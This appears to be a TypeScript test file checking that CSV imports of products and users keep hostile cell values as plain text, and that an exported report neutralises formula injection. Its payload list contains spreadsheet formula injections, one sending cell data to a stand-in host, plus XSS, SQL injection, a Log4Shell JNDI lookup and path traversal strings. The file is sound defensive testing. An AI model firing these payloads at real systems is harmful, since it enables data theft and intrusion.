import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { PERMISSIONS } from '../../contract/permission.ts';
import { startTestServer, type TestServer } from '../harness/server.ts';
import { worldOf, type World } from '../harness/world.ts';

// What an import takes in is text, whatever it looks like; and what a spreadsheet gets of it later
// is no formula.

const TEXTS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "'; drop table users; --",
  '\u202egpj.exe',
  '${jndi:ldap://evil.example/x}',
  '../../etc/passwd',
];

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe('a CSV with hostile cells', () => {
  let server: TestServer;
  let world: World;
  before(async () => {
    server = await startTestServer();
    world = worldOf(server);
  });
  after(() => server.close());

  const send = async (path: string, lines: string[][]) => {
    const token = await server.token(PERMISSIONS);
    const body = lines.map((cells) => cells.map(cell).join()).join('\r\n');
    const answer = await server.request('POST', path, { token, body, headers: { 'content-type': 'text/csv' } });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.deepEqual(answer.body, { added: TEXTS.length, changed: 0, unchanged: 0 });
  };

  it('of products is kept as text, and claimed products come out of the report as no formula', async () => {
    const products = TEXTS.map((text) => ({ text, skuId: randomUUID(), planId: randomUUID() }));
    await send('/v1.0/admin/import/products', [
      [
        'Product_Display_Name',
        'String_Id',
        'GUID',
        'Service_Plan_Name',
        'Service_Plan_Id',
        'Service_Plans_Included_Friendly_Names',
      ],
      ...products.map(({ text, skuId, planId }) => [text, text, skuId, text, planId, text]),
    ]);
    await world.turnAutoClaim(true);
    for (const { text, skuId, planId } of products) {
      const shown = await world.get(`/admin/products/${skuId}`);
      assert.deepEqual(
        [
          shown.displayName,
          shown.skuPartNumber,
          shown.servicePlans[0].servicePlanName,
          shown.servicePlans[0].friendlyName,
        ],
        [text, text, text, text],
      );
      await world.buy({ skuId }, 1);
      const app = await world.addApp([planId], text);
      await world.addPolicy(app, [{ skuId }], { displayName: text });
      const decision = await world.signIn(app, await world.addUser({ display_name: text }));
      assert.equal(decision.outcome, 'claimed');
      assert.deepEqual([decision.skuPartNumber, decision.servicePlans], [text, [text]]);
    }
    const csv = await world.get('/reports/autoClaim?$format=csv');
    const cells = readCsv(csv);
    assert.equal(cells.length, TEXTS.length + 1);
    for (const text of cells.flat()) assert.doesNotMatch(text, /^[=+\-@\t\r]/);
    for (const text of TEXTS)
      assert.ok(
        cells.flat().some((shown) => shown === text || shown === `'${text}`),
        text,
      );
  });

  it('of users is kept as text', async () => {
    const users = TEXTS.map((text) => ({ text, name: `${randomUUID()}@contoso.example` }));
    await send('/v1.0/admin/import/users', [
      ['Display name', 'User principal name', 'First name', 'Title', 'Department'],
      ...users.map(({ text, name }) => [text, name, text, text, text]),
    ]);
    for (const { text, name } of users) {
      const shown = await world.get(`/users/${name}?$select=displayName,givenName,jobTitle,department`);
      assert.deepEqual(
        [shown.displayName, shown.givenName, shown.jobTitle, shown.department],
        [text, text, text, text],
      );
    }
  });
});

/** A reader of its own: RFC 4180, every cell as it is. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === '' && end === '') break;
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
